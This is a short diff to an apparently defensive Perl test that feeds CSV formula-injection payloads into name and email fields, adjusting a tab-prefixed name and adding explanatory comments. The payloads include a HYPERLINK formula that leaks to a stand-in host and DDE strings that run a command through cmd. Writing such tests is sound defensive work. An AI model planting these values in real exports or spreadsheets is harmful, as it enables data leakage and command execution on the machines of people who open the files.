@@ -25,7 +25,10 @@ my ($M, $S1, $S2, $S3) = ('@M1', '-S1', '+S2', '=S3');
 my ($G1, $G2) = ('=GR/1', '-GR/2');
 my %payload = (
 	manager_name => '=HYPERLINK("http://evil.example/?leak","Manager")',
-	s1_name => "\tTabbed Name",
+	# A leading tab is trimmed from a name (docs/api.md: free text has no
+	# blanks at either end), so it never reaches a CSV: a tab after the +.
+	# A cell that begins with a tab is escaped: tests/unit/test_output.c.
+	s1_name => "+\tTabbed Name",
 	s2_name => q{-2+3+cmd|' /C calc'!A0},
 	s3_name => q{@SUM(1+1)*cmd|' /C calc'!A0},
 	email => '=m1@example.org',
